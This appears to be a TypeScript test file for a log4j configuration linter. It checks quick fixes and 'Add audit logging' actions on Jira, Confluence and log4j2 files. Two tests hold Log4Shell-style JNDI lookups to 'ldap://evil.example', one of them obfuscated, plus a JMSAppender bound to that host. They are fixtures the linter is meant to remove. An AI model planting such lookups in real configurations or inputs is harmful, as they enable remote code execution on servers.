// Code actions: every quick fix and the "Add audit logging" actions, asserted on the whole
// resulting text; idempotence, CRLF, the file's spacing, never offered twice.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { CodeAction, Diagnostic } from 'vscode-languageserver-types';
import { applyAction, fixture, openText, service } from './cursor';
import { rules } from '../../../server/src/config/rules';

const ALL = { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } };

/** Validates, takes the first diagnostic with `code`, returns its quick fixes. */
function fixesFor(text: string, code: string, fileName = 'log4j.properties', nth = 0): { actions: CodeAction[]; diagnostic: Diagnostic; doc: ReturnType<typeof openText> } {
  const doc = openText(text, fileName);
  const diagnostics = service.validate(doc.document, doc.model).filter((d) => d.code === code);
  const diagnostic = diagnostics[nth];
  assert.ok(diagnostic, `no ${code} diagnostic in:\n${text}`);
  const actions = service.codeActions(doc.document, doc.model, diagnostic.range, { diagnostics: [diagnostic], only: ['quickfix'] });
  return { actions, diagnostic, doc };
}

/** Applies the preferred fix for the first diagnostic `code` and returns the new text. */
function fix(text: string, code: string, fileName = 'log4j.properties', title?: RegExp): string {
  const { actions, diagnostic, doc } = fixesFor(text, code, fileName);
  const a = title ? actions.find((x) => title.test(x.title)) : actions.find((x) => x.isPreferred);
  assert.ok(a, `no fix for ${code}; got ${actions.map((x) => x.title).join(', ')}`);
  assert.deepEqual(a.diagnostics, [diagnostic]);
  assert.equal(a.kind, 'quickfix');
  return applyAction(doc.document, a);
}

/** Applying the same (now stale) diagnostic's fixes again changes nothing. */
function assertIdempotent(text: string, code: string, fileName = 'log4j.properties'): void {
  const { diagnostic, doc } = fixesFor(text, code, fileName);
  const first = service.codeActions(doc.document, doc.model, diagnostic.range, { diagnostics: [diagnostic], only: ['quickfix'] }).find((a) => a.isPreferred)!;
  const once = applyAction(doc.document, first);
  const again = openText(once, fileName);
  const second = service.codeActions(again.document, again.model, diagnostic.range, { diagnostics: [diagnostic], only: ['quickfix'] });
  for (const a of second) assert.equal(applyAction(again.document, a), once, `${a.title} changed the text a second time`);
}

const JIRA_HEAD = [
  'log4j.rootLogger=WARN, filelog',
  '',
  'log4j.appender.filelog=com.atlassian.jira.logging.JiraHomeAppender',
  'log4j.appender.filelog.File=atlassian-jira.log',
  '',
  'log4j.appender.securitylog=com.atlassian.jira.logging.JiraHomeAppender',
  'log4j.appender.securitylog.File=atlassian-jira-security.log',
  '',
];

const lines = (...l: string[]) => l.join('\n');

// ---------------------------------------------------------------------------------------------
// additivity

test('additivity: adds log4j.additivity.<name> = false right after the logger line', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.logger.com.example = WARN', '');
  assert.equal(fix(before, rules.additivity.id), lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false', 'log4j.logger.com.example = WARN', ''));
  assertIdempotent(before, rules.additivity.id);
});

test('writes-nowhere: sends the logger to the documented appender, in every syntax; the file\'s appenders when no route is known', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO  ', 'log4j.additivity.com.kantegasso.AuditLog = false', '');
  assert.equal(fix(before, rules.writesNowhere.id), lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog  ', 'log4j.additivity.com.kantegasso.AuditLog = false', ''));
  assertIdempotent(before, rules.writesNowhere.id);
  // Without a route (the product unknown, its appender not defined): one fix per appender of the file, none preferred.
  const plain = lines('log4j.rootLogger=WARN, f', 'log4j.appender.f=org.apache.log4j.FileAppender', 'log4j.appender.g=org.apache.log4j.FileAppender', 'log4j.logger.de.resolution.apitokenauth=', 'log4j.additivity.de.resolution.apitokenauth=false', '');
  const { actions } = fixesFor(plain, rules.writesNowhere.id);
  assert.deepEqual(actions.map((a) => [a.title, a.isPreferred ?? false]), [['Send de.resolution.apitokenauth to f', false], ['Send de.resolution.apitokenauth to g', false]]);
  assert.equal(fix(plain, rules.writesNowhere.id, 'log4j.properties', /to g$/), plain.replace('apitokenauth=\n', 'apitokenauth=, g\n'));

  const xml = (logger: string) => `<Configuration>\n  <Appenders>\n    <JiraHomeAppender name="securitylog" fileName="atlassian-jira-security.log"/>\n  </Appenders>\n  <Loggers>\n${logger}\n    <Root level="WARN"><AppenderRef ref="securitylog"/></Root>\n  </Loggers>\n</Configuration>\n`;
  const selfClosing = xml('    <Logger name="com.kantegasso.AuditLog" level="INFO" additivity="false"/>');
  const expanded = xml('    <Logger name="com.kantegasso.AuditLog" level="INFO" additivity="false">\n      <AppenderRef ref="securitylog"/>\n    </Logger>');
  assert.equal(fix(selfClosing, rules.writesNowhere.id, 'log4j2.xml', /securitylog/), expanded);
  assertIdempotent(selfClosing, rules.writesNowhere.id, 'log4j2.xml');
  const empty = xml('    <Logger name="com.kantegasso.AuditLog" level="INFO" additivity="false">\n    </Logger>');
  assert.equal(fix(empty, rules.writesNowhere.id, 'log4j2.xml', /securitylog/), expanded);

  const props = ['appender.s.type = RollingFile', 'appender.s.name = securitylog', 'logger.k.name = com.kantegasso.AuditLog', 'logger.k.level = INFO', 'logger.k.additivity = false', 'rootLogger = WARN, securitylog', ''];
  const after = [...props];
  after.splice(5, 0, 'logger.k.appenderRef.securitylog.ref = securitylog');
  assert.equal(fix(props.join('\n'), rules.writesNowhere.id, 'log4j2.properties', /securitylog/), after.join('\n'));
  assertIdempotent(props.join('\n'), rules.writesNowhere.id, 'log4j2.properties');
  // And what the fix writes passes the linter.
  assert.deepEqual(service.validate(openText(after.join('\n'), 'log4j2.properties').document, openText(after.join('\n'), 'log4j2.properties').model).filter((d) => d.code === rules.writesNowhere.id), []);
});

test('vulnerable-class: removes the appender\'s lines and every reference to it (log4j 1 properties and XML)', () => {
  const before = lines(
    'log4j.rootLogger=INFO, jms, filelog',
    'log4j.appender.filelog=org.apache.log4j.FileAppender',
    'log4j.appender.jms=org.apache.log4j.net.JMSAppender',
    'log4j.appender.jms.TopicBindingName=logTopic',
    'log4j.appender.jms.TopicConnectionFactoryBindingName=ldap://evil.example/x',
    'log4j.logger.com.example.A = WARN,jms',
    'log4j.logger.com.example.B = , jms , filelog',
    'log4j.logger.com.example.C = INFO, jms,jms , jms',
    '',
  );
  const { actions } = fixesFor(before, rules.vulnerableClass.id);
  assert.deepEqual(actions.map((a) => a.title), ['Remove appender jms and its 6 references']);
  const after = fix(before, rules.vulnerableClass.id);
  assert.equal(
    after,
    lines('log4j.rootLogger=INFO, filelog', 'log4j.appender.filelog=org.apache.log4j.FileAppender', 'log4j.logger.com.example.A = WARN', 'log4j.logger.com.example.B = , filelog', 'log4j.logger.com.example.C = INFO', ''),
  );
  assert.deepEqual(service.validate(openText(after).document, openText(after).model), [], 'what is left passes the linter');

  const xml = [
    '<?xml version="1.0" encoding="UTF-8" ?>',
    '<log4j:configuration xmlns:log4j="http://jakarta.apache.org/log4j/">',
    '  <appender name="file" class="org.apache.log4j.FileAppender"/>',
    '  <appender name="db" class="org.apache.log4j.jdbc.JDBCAppender">',
    '    <param name="sql" value="INSERT INTO log VALUES (\'%m\')"/>',
    '  </appender>',
    '  <appender name="async" class="org.apache.log4j.AsyncAppender">',
    '    <appender-ref ref="db"/>',
    '    <appender-ref ref="file"/>',
    '  </appender>',
    '  <root>',
    '    <level value="INFO"/>',
    '    <appender-ref ref="db"/>',
    '    <appender-ref ref="async"/>',
    '  </root>',
    '</log4j:configuration>',
    '',
  ];
  const xmlAfter = xml.filter((_, i) => ![3, 4, 5, 7, 12].includes(i));
  assert.equal(fix(xml.join('\n'), rules.vulnerableClass.id, 'log4j.xml'), xmlAfter.join('\n'));
  assertIdempotent(xml.join('\n'), rules.vulnerableClass.id, 'log4j.xml');
});

test('jndi-lookup: removes the lookup, nested and obfuscated ones whole', () => {
  const before = lines(...JIRA_HEAD, 'log4j.appender.filelog.layout.ConversionPattern=%d %m ${${lower:j}ndi:ldap://evil.example/a}%n', '');
  assert.equal(fix(before, rules.jndiLookup.id), lines(...JIRA_HEAD, 'log4j.appender.filelog.layout.ConversionPattern=%d %m %n', ''));
  const x = '<Configuration>\n  <Properties><Property name="p">${jndi:ldap://evil.example/a}</Property></Properties>\n</Configuration>\n';
  assert.equal(fix(x, rules.jndiLookup.id, 'log4j2.xml'), x.replace('${jndi:ldap://evil.example/a}', ''));
});

test('additivity: last line without a final newline; the file\'s `=` spacing', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog=INFO, securitylog');
  assert.equal(fix(before, rules.additivity.id), lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog=INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog=false\n'));
});

test('additivity: an invalid or true value is replaced by false', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = flase', '');
  assert.equal(fix(before, rules.additivity.id), lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false', ''));
  assertIdempotent(before, rules.additivity.id);
});

test('additivity: CRLF stays CRLF', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.logger.com.example = WARN', '').replace(/\n/g, '\r\n');
  const after = fix(before, rules.additivity.id);
  assert.equal(after, lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false', 'log4j.logger.com.example = WARN', '').replace(/\n/g, '\r\n'));
  assert.ok(!/[^\r]\n/.test(after), 'no bare LF');
});

test('additivity: log4j2 XML attribute and log4j2 properties key', () => {
  const xml = (logger: string) => `<Configuration>\n  <Appenders>\n    <JiraHomeAppender name="filelog" fileName="atlassian-jira.log"/>\n  </Appenders>\n  <Loggers>\n${logger}\n    <Root level="WARN"><AppenderRef ref="filelog"/></Root>\n  </Loggers>\n</Configuration>\n`;
  const before = xml('    <Logger name="de.resolution.apitokenauth" level="INFO">\n      <AppenderRef ref="filelog"/>\n    </Logger>');
  assert.equal(fix(before, rules.additivity.id, 'log4j2.xml'), xml('    <Logger name="de.resolution.apitokenauth" level="INFO" additivity="false">\n      <AppenderRef ref="filelog"/>\n    </Logger>'));
  assertIdempotent(before, rules.additivity.id, 'log4j2.xml');

  const props = [
    'appender.filelog.type = RollingFile',
    'appender.filelog.name = filelog',
    'appender.filelog.fileName = atlassian-jira.log',
    'logger.audit.name = com.kantegasso.AuditLog',
    'logger.audit.level = INFO',
    'logger.audit.appenderRef.filelog.ref = filelog',
    'rootLogger = WARN, filelog',
    '',
  ];
  const after = [...props];
  after.splice(6, 0, 'logger.audit.additivity = false');
  assert.equal(fix(props.join('\n'), rules.additivity.id, 'log4j2.properties'), after.join('\n'));
  assertIdempotent(props.join('\n'), rules.additivity.id, 'log4j2.properties');
});

// ---------------------------------------------------------------------------------------------
// misspelled logger, level, appenders

test('unknown-logger: the name is corrected, and its additivity line with the same typo too', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.Auditlog = INFO, securitylog', 'log4j.additivity.com.kantegasso.Auditlog = false', '');
  assert.equal(fix(before, rules.unknownLogger.id), lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false', ''));
  assertIdempotent(before, rules.unknownLogger.id);
  const xml = '<Configuration>\n  <Loggers>\n    <Logger name="com.kantegaso.AuditLog" level="INFO" additivity="false"/>\n  </Loggers>\n</Configuration>\n';
  assert.equal(fix(xml, rules.unknownLogger.id, 'log4j2.xml'), xml.replace('kantegaso', 'kantegasso'));
});

test('level-suppresses: raises the level to the one needed', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = WARN, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false', '');
  assert.equal(fix(before, rules.levelSuppresses.id), lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false', ''));
  assertIdempotent(before, rules.levelSuppresses.id);
  const xml = '<Configuration>\n  <Loggers>\n    <Logger name="com.kantegasso.DiagnosticsLog" level="OFF" additivity="false"/>\n  </Loggers>\n</Configuration>\n';
  assert.equal(fix(xml, rules.levelSuppresses.id, 'log4j2.xml'), xml.replace('"OFF"', '"INFO"'));
});

test('invalid-level: the closest valid level', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INOF, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false', '');
  assert.equal(fix(before, rules.invalidLevel.id), before.replace('INOF', 'INFO'));
});

test('wrong-product-appender: routes the logger to the product\'s appender', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, confluencelog', 'log4j.additivity.com.kantegasso.AuditLog = false', '');
  assert.equal(fix(before, rules.wrongProductAppender.id), before.replace('INFO, confluencelog', 'INFO, securitylog'));
});

test('undefined-appender: defines apitokenservice with its documented layout (Jira properties)', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.de.resolution.apitokenauth = INFO, apitokenservice', 'log4j.additivity.de.resolution.apitokenauth = false', '');
  const head = JIRA_HEAD.slice(0, 7);
  assert.equal(
    fix(before, rules.undefinedAppender.id),
    lines(
      ...head,
      'log4j.appender.apitokenservice=com.atlassian.jira.logging.JiraHomeAppender',
      'log4j.appender.apitokenservice.File=apitokenservice.log',
      'log4j.appender.apitokenservice.MaxFileSize=20480KB',
      'log4j.appender.apitokenservice.MaxBackupIndex=5',
      'log4j.appender.apitokenservice.layout=com.atlassian.logging.log4j.NewLineIndentingFilteringPatternLayout',
      'log4j.appender.apitokenservice.layout.ConversionPattern=%d{yyyy-MM-dd HH:mm:ss,SSSZ} %t %p %X{jira.username} %X{} %X{} %X{jira.request.ipaddr} %X{jira.request.url} [%q{2}] %m%n',
      '',
      'log4j.logger.de.resolution.apitokenauth = INFO, apitokenservice',
      'log4j.additivity.de.resolution.apitokenauth = false',
      '',
    ),
  );
  assertIdempotent(before, rules.undefinedAppender.id);
});

test('undefined-appender: a near miss of a defined appender is corrected first', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylgo', 'log4j.additivity.com.kantegasso.AuditLog = false', '');
  const { actions } = fixesFor(before, rules.undefinedAppender.id);
  assert.deepEqual(actions.map((a) => [a.title, a.isPreferred ?? false]), [['Change to securitylog', true], ['Define appender securitylgo', false]]);
  assert.equal(fix(before, rules.undefinedAppender.id), before.replace('securitylgo', 'securitylog'));
});

test('undefined-appender: log4j2 XML gets a <JiraHomeAppender> inside <Appenders>', () => {
  const xml = (extra: string) =>
    `<Configuration>\n  <Appenders>\n    <JiraHomeAppender name="filelog" fileName="atlassian-jira.log"/>\n${extra}  </Appenders>\n  <Loggers>\n    <Logger name="com.kantegasso.AuditLog" level="INFO" additivity="false">\n      <AppenderRef ref="securitylog"/>\n    </Logger>\n    <Root level="WARN"><AppenderRef ref="filelog"/></Root>\n  </Loggers>\n</Configuration>\n`;
  const expected = xml(
    [
      '    <JiraHomeAppender name="securitylog" fileName="atlassian-jira-security.log" filePattern="atlassian-jira-security.log.%i">',
      '      <PatternLayout pattern="%d %t %X{jira.username} %X{jira.request.id} %X{jira.request.assession.id} %X{jira.request.ipaddr} %X{jira.request.url} %m%n"/>',
      '      <Policies>',
      '        <SizeBasedTriggeringPolicy size="20480 KB"/>',
      '      </Policies>',
      '      <DefaultRolloverStrategy max="5"/>',
      '    </JiraHomeAppender>',
      '',
    ].join('\n'),
  );
  assert.equal(fix(xml(''), rules.undefinedAppender.id, 'log4j2.xml'), expected);
  assertIdempotent(xml(''), rules.undefinedAppender.id, 'log4j2.xml');
});

test('every quick fix of the mistakes fixtures leaves every other line byte-for-byte', () => {
  for (const [name, fileName] of [['configs/jira-mistakes.properties', 'log4j.properties'], ['configs/confluence-mistakes.properties', 'log4j.properties'], ['configs/jira-mistakes-log4j2.xml', 'log4j2.xml']] as const) {
    const text = fixture(name);
    const doc = openText(text, fileName);
    for (const d of service.validate(doc.document, doc.model)) {
      for (const a of service.codeActions(doc.document, doc.model, d.range, { diagnostics: [d], only: ['quickfix'] })) {
        const after = applyAction(doc.document, a).split('\n');
        const before = text.split('\n');
        // Lines before the first change and after the last are untouched.
        let i = 0;
        while (i < before.length && before[i] === after[i]) i++;
        let j = 0;
        while (j < before.length - i && before[before.length - 1 - j] === after[after.length - 1 - j]) j++;
        const changed = before.length - i - j;
        const removed = /^Remove appender (\S+)/.exec(a.title)?.[1];
        if (removed) {
          // Only deletions: the appender's lines go, the lines that referenced it lose the name.
          assert.ok(after.length < before.length, `${name}: "${a.title}" removed no line`);
          for (const l of after) assert.ok(before.includes(l) || before.some((b) => b.includes(removed) && !l.includes(removed) && b.length > l.length), `${name}: "${a.title}" wrote ${l}`);
        } else assert.ok(changed <= 2, `${name}: "${a.title}" changed ${changed} lines`);
        // And the rule it fixes no longer fires on that line.
        const again = openText(after.join('\n'), fileName);
        const still = service.validate(again.document, again.model).filter((x) => x.code === d.code && x.range.start.line === d.range.start.line && !/Define/.test(a.title));
        assert.deepEqual(still.map((x) => x.message), [], `${name}: "${a.title}" did not fix ${d.code}`);
      }
    }
  }
});

// ---------------------------------------------------------------------------------------------
// Add audit logging

function addLogging(text: string, fileName: string, title: RegExp): { after: string; titles: string[] } {
  const doc = openText(text, fileName);
  const actions = service.codeActions(doc.document, doc.model, ALL, { diagnostics: [] });
  const a = actions.find((x) => title.test(x.title));
  assert.ok(a, `no action ${title}; got ${actions.map((x) => x.title).join(', ')}`);
  assert.equal(a.kind, 'source.authlog.addLogging');
  return { after: applyAction(doc.document, a), titles: actions.map((x) => x.title) };
}

test('Add audit logging (Jira properties) lands at the end of the # Security logs section', () => {
  const text = fixture('real-configs/jira-7.13.2/log4j.properties');
  const { after } = addLogging(text, 'log4j.properties', /Kantega SSO \(com\.kantegasso\.AuditLog\)/);
  const anchor = 'log4j.additivity.com.atlassian.seraph = false\n';
  const at = text.indexOf(anchor) + anchor.length;
  assert.ok(at > anchor.length);
  assert.equal(after, `${text.slice(0, at)}log4j.logger.com.kantegasso.AuditLog = INFO, securitylog\nlog4j.additivity.com.kantegasso.AuditLog = false\n${text.slice(at)}`);
  // The section header is above the insertion.
  assert.ok(text.lastIndexOf('# Security logs', at) > 0);
});

test('Add audit logging (Confluence properties) lands at the end of the file', () => {
  const text = fixture('real-configs/confluence-5.10.2/log4j.properties');
  const { after } = addLogging(text, 'log4j.properties', /Kantega SSO \(com\.kantegasso\.AuditLog\)/);
  const sep = text.endsWith('\n') ? '' : '\n';
  assert.equal(after, `${text}${sep}log4j.logger.com.kantegasso.AuditLog=INFO, confluencelog\nlog4j.additivity.com.kantegasso.AuditLog=false\n`);
});

test('Add audit logging (log4j2.xml) lands inside <Loggers>, before </Loggers>', () => {
  const text = [
    '<Configuration>',
    '  <Appenders>',
    '    <JiraHomeAppender name="filelog" fileName="atlassian-jira.log"/>',
    '    <JiraHomeAppender name="securitylog" fileName="atlassian-jira-security.log"/>',
    '  </Appenders>',
    '  <Loggers>',
    '    <Root level="WARN"><AppenderRef ref="filelog"/></Root>',
    '  </Loggers>',
    '</Configuration>',
    '',
  ];
  const { after } = addLogging(text.join('\n'), 'log4j2.xml', /API Token Authentication/);
  const expected = [...text];
  expected.splice(
    7,
    0,
    '    <!-- Logger for API Token Authentication -->',
    '    <Logger name="de.resolution.apitokenauth" level="INFO" additivity="false">',
    '      <AppenderRef ref="filelog"/>',
    '    </Logger>',
  );
  assert.equal(after, expected.join('\n'));
});

test('Add audit logging (log4j2.properties) appends with unique ids; CRLF kept', () => {
  const text = ['appender.filelog.type = RollingFile', 'appender.filelog.name = filelog', 'logger.kantegaAudit.name = com.example.Other', 'rootLogger = WARN, filelog', ''].join('\r\n');
  const { after } = addLogging(text, 'log4j2.properties', /Kantega SSO \(com\.kantegasso\.AuditLog\)/);
  assert.equal(
    after,
    text +
      [
        'logger.kantegaAudit2.name = com.kantegasso.AuditLog',
        'logger.kantegaAudit2.level = INFO',
        'logger.kantegaAudit2.additivity = false',
        'logger.kantegaAudit2.appenderRef.securitylog.ref = securitylog',
        '',
      ].join('\r\n'),
  );
});

test('Add audit logging is never offered twice: not when the logger is declared', () => {
  const text = fixture('real-configs/jira-7.13.2/log4j.properties');
  const { after, titles } = addLogging(text, 'log4j.properties', /Kantega SSO \(com\.kantegasso\.AuditLog\)/);
  assert.equal(titles.length, 3);
  const again = openText(after, 'log4j.properties');
  const titles2 = service.codeActions(again.document, again.model, ALL, { diagnostics: [] }).map((a) => a.title);
  assert.equal(titles2.length, 2);
  assert.ok(!titles2.some((t) => /AuditLog/.test(t)));
  assert.equal(service.enableLogging(again.document, again.model, 'kantega-audit'), undefined);
  // The fixture that enables all three apps offers none.
  const all = openText(fixture('configs/jira-log4j.properties'), 'log4j.properties');
  assert.deepEqual(service.codeActions(all.document, all.model, ALL, { diagnostics: [] }), []);
});

test('enableLogging: the palette command ids, the API token app on Jira brings its appender', () => {
  const text = lines(...JIRA_HEAD, '');
  const doc = openText(text, 'log4j.properties');
  for (const id of ['kantega-audit', 'kantega-diagnostics', 'apitoken']) assert.ok(service.enableLogging(doc.document, doc.model, id), id);
  assert.equal(service.enableLogging(doc.document, doc.model, 'no-such-app'), undefined);
  const after = applyAction(doc.document, service.enableLogging(doc.document, doc.model, 'apitoken'));
  assert.ok(after.includes('log4j.appender.apitokenservice.layout.ConversionPattern=%d{yyyy-MM-dd HH:mm:ss,SSSZ} %t %p'));
  assert.ok(after.endsWith('log4j.logger.de.resolution.apitokenauth=INFO, apitokenservice\nlog4j.additivity.de.resolution.apitokenauth=false\n') || after.endsWith('log4j.logger.de.resolution.apitokenauth = INFO, apitokenservice\nlog4j.additivity.de.resolution.apitokenauth = false\n'), after);
  const re = openText(after, 'log4j.properties');
  assert.deepEqual(service.validate(re.document, re.model).filter((d) => d.severity === 1 || d.severity === 2).map((d) => d.message), []);
});

test('code actions honour context.only', () => {
  const doc = openText(lines(...JIRA_HEAD, ''), 'log4j.properties');
  assert.deepEqual(service.codeActions(doc.document, doc.model, ALL, { diagnostics: [], only: ['quickfix'] }), []);
  assert.equal(service.codeActions(doc.document, doc.model, ALL, { diagnostics: [], only: ['source'] }).length, 3);
});

test('Add audit logging (log4j.xml): a <logger> before <root>, in the file\'s indentation', () => {
  const text = '<?xml version="1.0"?>\n<log4j:configuration xmlns:log4j="http://jakarta.apache.org/log4j/">\n    <appender name="securitylog" class="com.atlassian.jira.logging.JiraHomeAppender"/>\n    <root>\n        <level value="WARN"/>\n    </root>\n</log4j:configuration>\n';
  const { after } = addLogging(text, 'log4j.xml', /com\.kantegasso\.AuditLog/);
  assert.equal(
    after,
    text.replace(
      '    <root>',
      '    <logger name="com.kantegasso.AuditLog" additivity="false">\n        <level value="INFO"/>\n        <appender-ref ref="securitylog"/>\n    </logger>\n    <root>',
    ),
  );
});

test('Add audit logging (log4j2.xml without <Loggers>, tab-indented): creates <Loggers>', () => {
  const text = '<Configuration>\n\t<Appenders>\n\t\t<JiraHomeAppender name="filelog" fileName="a.log"/>\n\t</Appenders>\n</Configuration>\n';
  const { after } = addLogging(text, 'log4j2.xml', /API Token Authentication/);
  assert.equal(
    after,
    '<Configuration>\n\t<Appenders>\n\t\t<JiraHomeAppender name="filelog" fileName="a.log"/>\n\t</Appenders>\n\t<Loggers>\n\t\t<!-- Logger for API Token Authentication -->\n\t\t<Logger name="de.resolution.apitokenauth" level="INFO" additivity="false">\n\t\t\t<AppenderRef ref="filelog"/>\n\t\t</Logger>\n\t</Loggers>\n</Configuration>\n',
  );
});

test('Add audit logging next to an additivity line that lacks its logger line: only the logger line is added', () => {
  const text = lines(...JIRA_HEAD, 'log4j.additivity.com.kantegasso.AuditLog = false', '');
  const { after } = addLogging(text, 'log4j.properties', /com\.kantegasso\.AuditLog/);
  assert.equal(after, lines(...JIRA_HEAD, 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false', ''));
});

test('duplicate-key: deletes the ignored earlier line', () => {
  const before = lines(...JIRA_HEAD, 'log4j.logger.com.atlassian.seraph = INFO, securitylog', 'log4j.logger.com.atlassian.seraph = WARN, securitylog', 'log4j.additivity.com.atlassian.seraph = false', '');
  assert.equal(fix(before, rules.duplicateKey.id), lines(...JIRA_HEAD, 'log4j.logger.com.atlassian.seraph = WARN, securitylog', 'log4j.additivity.com.atlassian.seraph = false', ''));
  assertIdempotent(before, rules.duplicateKey.id);
});

test('foreign-syntax: the vendor\'s log4j 1 lines pasted into log4j2.xml become a <Logger>', () => {
  const xml = (inside: string) =>
    `<Configuration>\n  <Appenders>\n    <JiraHomeAppender name="securitylog" fileName="atlassian-jira-security.log"/>\n  </Appenders>\n  <Loggers>\n${inside}    <Root level="WARN"><AppenderRef ref="securitylog"/></Root>\n  </Loggers>\n</Configuration>\n`;
  const before = xml('    log4j.logger.com.kantegasso.AuditLog = INFO, securitylog\n    log4j.additivity.com.kantegasso.AuditLog = false\n');
  const after = fix(before, rules.foreignSyntax.id, 'log4j2.xml');
  assert.equal(after, xml('    <Logger name="com.kantegasso.AuditLog" level="INFO" additivity="false">\n      <AppenderRef ref="securitylog"/>\n    </Logger>\n'));
  const again = openText(after, 'log4j2.xml');
  assert.deepEqual(service.validate(again.document, again.model).map((d) => d.code), []);
  assertIdempotent(before, rules.foreignSyntax.id, 'log4j2.xml');
});

test('foreign-syntax: log4j 1 lines in log4j2.properties become logger.<id> keys', () => {
  const props = ['appender.s.type = RollingFile', 'appender.s.name = securitylog', 'appender.s.fileName = s.log', 'log4j.logger.com.kantegasso.AuditLog = INFO, securitylog', 'log4j.additivity.com.kantegasso.AuditLog = false', 'rootLogger = WARN, securitylog', ''];
  assert.equal(
    fix(props.join('\n'), rules.foreignSyntax.id, 'log4j2.properties'),
    [
      'appender.s.type = RollingFile', 'appender.s.name = securitylog', 'appender.s.fileName = s.log',
      'logger.AuditLog.name = com.kantegasso.AuditLog', 'logger.AuditLog.level = INFO', 'logger.AuditLog.additivity = false', 'logger.AuditLog.appenderRef.securitylog.ref = securitylog',
      'rootLogger = WARN, securitylog', '',
    ].join('\n'),
  );
});
